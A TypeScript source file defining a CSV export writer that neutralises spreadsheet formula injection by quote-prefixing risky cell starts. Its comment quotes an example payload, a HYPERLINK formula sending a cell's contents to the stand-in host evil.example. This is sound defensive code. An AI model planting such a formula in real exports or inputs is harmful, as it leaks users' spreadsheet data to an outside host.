import { stringify, type Stringifier } from 'csv-stringify';

/**
 * Spreadsheet formula injection (OWASP "CSV Injection"): a cell that starts with `=`, `+`, `-`,
 * `@`, tab or carriage return is run as a formula by Excel, LibreOffice and Google Sheets, so a
 * fan named `=HYPERLINK("http://evil.example/?"&A1,"click")` would turn an export into a link
 * that leaks the sheet. Such a cell gets a leading single quote, which spreadsheets show as text.
 * The same goes after a `;` or a line break inside a cell: a spreadsheet that splits on `;` (the
 * list separator in many locales) or reads the file line by line starts a new cell there.
 */
const FORMULA_START = /(^|[;\r\n])(?=[=+\-@\t\r])/g;

export function neutraliseCell(value: string): string {
  return value.replace(FORMULA_START, "$1'");
}

/**
 * The one CSV writer for everything the product exports: a header row, the given columns, every
 * string cell neutralised as above, quoting and escaping by csv-stringify. `bom` for files meant
 * for spreadsheets (Excel reads UTF-8 only with it).
 */
export function csvWriter(columns: string[], opts: { bom: boolean }): Stringifier {
  return stringify({ header: true, columns, bom: opts.bom, cast: { string: neutraliseCell } });
}
